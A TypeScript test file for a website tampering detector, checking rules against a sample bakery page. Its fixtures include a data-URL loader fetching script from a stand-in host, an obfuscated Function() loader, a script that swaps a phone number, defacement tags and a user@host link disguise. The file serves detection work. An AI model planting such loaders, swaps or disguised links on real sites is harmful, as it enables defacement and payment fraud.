/**
 * The rules of round 12 (tuned on fresh10 after its first look), on the
 * hand-written bakery page: each with the change it catches and the honest
 * change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { dataUrlText } from "../../src/internal/extract.js"
import { decodedMessage } from "../../src/internal/text.js"
import { hostOf, proxiedTo } from "../../src/internal/url.js"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

describe("round 12: code the page carries or hides", () => {
  it("a script whose address is a data: URL is read as inline code, where it loads from included", () => {
    const loader = `(function(){var s=document.createElement("script");s.src="https://cdn-upd.example.top/lib/a.js";document.head.appendChild(s)})();`
    expect(dataUrlText(`data:text/javascript;base64,${Buffer.from(loader).toString("base64")}`)).toBe(loader)
    expect(breaches(verdictOf(page({ seed: 4, head: `<script src="data:text/javascript;base64,${Buffer.from(loader).toString("base64")}"></script>` })))).toContain("destinations/inline_script_new_domain")
    expect(breaches(verdictOf(page({ seed: 4, head: `<script src="data:text/javascript,${encodeURIComponent(loader)}"></script>` })))).toContain("destinations/inline_script_new_domain")
  })

  it("a loader that builds its code from character codes and runs it through Function() hides its code", () => {
    const code = `(function(a,k){var s="";for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]-k);Function(s)()})([121,100,117,35],3)`
    expect(breaches(verdictOf(page({ seed: 4, body: `<script>${code}</script>` })))).toContain("destinations/script_obfuscated")
  })

  it("a new script from the site's uploads folder alerts; the site's own new bundle does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<script src="/wp-content/uploads/2026/11/hvjx9qhk.js"></script>` })))).toContain("destinations/script_from_uploads")
    expect(verdictOf(page({ seed: 4, head: `<script src="/static/checkout.js?v=2"></script>` })).alert).toBe(false)
  })

  it("a style that draws another picture in place of every image alerts", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<style>img{content:url(https://i.imgur.example/10in9xh.png)!important}</style>` })))).toContain("destinations/style_new_domain")
  })
})

describe("round 12: what the visitor reads", () => {
  it("text written in Morse, binary, hexadecimal or base64 is read for what it says", () => {
    expect(decodedMessage(".... .- -.-. -.- . -.. / -... -.-- / --. .... --- ... -")).toBe("hacked by ghost")
    expect(decodedMessage("01001000 01101001 00100000 01100001 01100100 01101101 01101001 01101110")).toBe("Hi admin")
    expect(decodedMessage("48:61:63:6b:65:64:20:62:79:20:7a:65:72:6f")).toBe("Hacked by zero")
    expect(decodedMessage(Buffer.from("We own this site now").toString("base64"))).toBe("We own this site now")
    // (prose, numbers, ids and tokens are not codes)
    for (const t of ["Our ovens are lit at four o'clock.", "0800 961 064 122 0800 961", "a3f9c2d1e4b5a6c7d8e9f0a1b2c3d4e5", "dQw4w9WgXcQ"]) expect(decodedMessage(t), t).toBe(null)
    expect(breaches(verdictOf(page({ seed: 4, body: `<pre>01001000 01100001 01100011 01101011 01100101 01100100 00100000 01100010 01111001 00100000 01011010 01100101 01110010 01101111</pre>` })))).toContain("visible_text/coded_message")
  })

  it("a placeholder or a button's label is text a visitor reads", () => {
    const v = verdictOf(page({ seed: 4, body: `<form action="/search"><input name="q" placeholder="Hacked by Syst3m Garuda"><input type="submit" value="OWNED"></form>` }))
    expect(breaches(v)).toContain("visible_text/signature")
  })

  it("numbers shown backwards (a right-to-left override, <bdo>, bidi-override CSS) are read as shown", () => {
    const base = baselineOf(samples((seed) => page({ seed, body: `<p>Sort code 71-87-45, account number 61464974</p>` })))
    for (const body of [
      `<p>\u202e38834636 rebmun tnuocca ,18-21-87 edoc troS\u202c</p>`,
      `<p><bdo dir="rtl">38834636 rebmun tnuocca ,18-21-87 edoc troS</bdo></p>`,
      `<p><span dir="rtl" style="unicode-bidi:bidi-override">38834636 rebmun tnuocca ,18-21-87 edoc troS</span></p>`
    ]) expect(breaches(verdictOf(page({ seed: 4, body }), base)), body).toContain("identifiers/account_changed")
  })

  it("a wallet's registered name (ENS and the like) is a wallet", () => {
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Support our work: <strong>harbour-pay.eth</strong> (ETH, USDC)</p>` })))).toContain("identifiers/wallet_appeared")
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Read more at ethereum.org and about Node.js.</p>` })))).not.toContain("identifiers/wallet_appeared")
  })
})

describe("round 12: where links lead", () => {
  it("the host of an address is after its user name: site@other leads to other", () => {
    expect(hostOf("https://www.harbourbakery.co.uk:login@harbour-pay.example.top/order")).toBe("harbour-pay.example.top")
    expect(hostOf("https://www.harbourbakery.co.uk:443/order")).toBe("www.harbourbakery.co.uk")
    const base = baselineOf(samples((seed) => page({ seed, body: `<p><a href="https://www.harbourbakery.co.uk/order">Order a cake</a></p>` })))
    expect(breaches(verdictOf(page({ seed: 4, body: `<p><a href="https://www.harbourbakery.co.uk:secure@harbour-pay.example.top/order">Order a cake</a></p>` }), base))).toContain("destinations/link_retargeted")
  })

  it("a link through an AMP cache or Google Translate leads to the page it serves", () => {
    expect(proxiedTo("https://harbour--pay-top.cdn.ampproject.org/c/s/harbour-pay.top/donate")).toBe("https://harbour-pay.top/donate")
    expect(proxiedTo("https://www.google.com/amp/s/harbour-pay.top/index.html")).toBe("https://harbour-pay.top/index.html")
    expect(proxiedTo("https://harbour-pay-top.translate.goog/login?_x_tr_sl=auto&_x_tr_tl=en")).toBe("https://harbour.pay.top/login")
    expect(proxiedTo("https://www.google.com/search?q=bread")).toBe(null)
  })

  it("a 'this page has moved' refresh that waits for its reader, to the site's own page, is reported, not alarmed on", () => {
    const moved = verdictOf(page({ seed: 4, head: `<meta http-equiv="refresh" content="8; url=/bread/sourdough">`, top: `<p>This page has moved. You will be taken to its new address in 8 seconds.</p>` }))
    expect(moved.findings.find((f) => f.check === "redirect_same_site")?.severity).toBe("low")
    expect(moved.alert).toBe(false)
    const jump = verdictOf(page({ seed: 4, head: `<meta http-equiv="refresh" content="0; url=/wp-content/uploads/cheap-pills.html">` }))
    expect(jump.findings.find((f) => f.check === "redirect_same_site")?.severity).toBe("high")
  })

  it("a copy button's one-word states ('Copy', 'Copied') written by script are not text pushed at the visitor", () => {
    const copy = `<button data-copy="orders@harbourbakery.co.uk">Copy</button><script>document.addEventListener("click",function(e){var b=e.target.closest("[data-copy]");if(!b)return;navigator.clipboard.writeText(b.getAttribute("data-copy")).then(function(){b.textContent="Copied";setTimeout(function(){b.textContent="Copy"},1500)})})</script>`
    expect(verdictOf(page({ seed: 4, body: copy })).alert).toBe(false)
    expect(breaches(verdictOf(page({ seed: 4, body: `<script>document.body.innerHTML="<h1>Owned by the Night Owls</h1>"</script>` }))).length).toBeGreaterThan(0)
  })
})

describe("round 12: what scripts put in front of the visitor", () => {
  it("a script that names the page's own number beside another and rewrites the page's text swaps them: critical", () => {
    const swap = `<script>(function(){var r=[["01947 600 123","01947 600 777"]];var t=document.createTreeWalker(document.body,NodeFilter.SHOW_TEXT,null),x;while((x=t.nextNode())){for(var i=0;i<r.length;i++)x.nodeValue=x.nodeValue.split(r[i][0]).join(r[i][1])}})();</script>`
    expect(breaches(verdictOf(page({ seed: 4, body: swap })))).toContain("identifiers/script_swaps_identifier")
    // (a script that only formats the page's own number touches no other)
    const format = `<script>document.querySelectorAll(".tel").forEach(function(a){a.textContent="01947 600 123"})</script>`
    expect(checks(verdictOf(page({ seed: 4, body: format })))).not.toContain("identifiers/script_swaps_identifier")
  })

  it("what a text walker writes into the page is read: a defacer's tag in it is a signature", () => {
    const tag = `<script>(function(){var t=document.createTreeWalker(document.body,NodeFilter.SHOW_TEXT,null),x;while((x=t.nextNode()))x.nodeValue=x.nodeValue.split("Harbour Bakery").join("Harbour Bakery (hacked by Night Owls)")})();</script>`
    expect(breaches(verdictOf(page({ seed: 4, body: tag })))).toContain("visible_text/signature")
  })

  it("a wallet's '.x' name is a wallet, a version number is not", () => {
    const base = baselineOf(samples((seed) => page({ seed, body: `<p>Donate: 0x865397ece66f6e430aceb7ce3f10efdd97f4b125</p>` })))
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Donate: harbourbakery.x</p>` }), base))).toContain("identifiers/wallet_changed")
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Runs on Node 18.x and Python 3.x.</p>` })))).not.toContain("identifiers/wallet_appeared")
  })

  it("a 'pay' link to a public body's own government domain is not paying a stranger", () => {
    expect(checks(verdictOf(page({ seed: 4, body: `<p>Pay your market stall fee: <a href="https://www.payfip.gouv.fr/tpa/paiement.web">Pay</a></p>` })))).not.toContain("destinations/link_payment")
    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Pay your market stall fee: <a href="https://stall-fees.example.top/pay">Pay</a></p>` })))).toContain("destinations/link_payment")
  })
})
